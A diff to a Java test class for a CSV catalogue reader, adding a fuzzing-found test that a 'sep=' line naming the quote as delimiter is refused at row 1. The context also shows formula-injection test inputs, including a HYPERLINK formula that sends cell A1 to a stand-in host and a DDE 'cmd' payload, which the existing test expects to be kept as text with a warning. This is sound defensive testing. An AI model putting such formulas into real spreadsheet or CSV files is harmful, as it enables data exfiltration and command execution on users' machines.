@@ -65,6 +65,15 @@ class CsvCatalogueTest {
     }
 
     @Test
+    @DisplayName("a sep= line naming the quote as delimiter is refused at row 1, not a crash (found by fuzzing)")
+    void sepQuote() {
+        ReadException e = refused("sep=\"\nListing ID;Title (English)\nlisting:nfb/lab-1;Lab\n");
+        assertThat(e.ruleId()).isEqualTo("opdl.syntax.csv");
+        assertThat(((Location.Csv) e.location()).row()).isEqualTo(1);
+        assertThat(e.text().en()).contains("sep=").contains("\"");
+    }
+
+    @Test
     @DisplayName("C1: text cells a spreadsheet would run are kept as text with a warning at their row and column; numbers are exempt")
     void c1() {
         String[] cells = {"\"=HYPERLINK(\"\"http://x/?\"\"&A1)\"", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
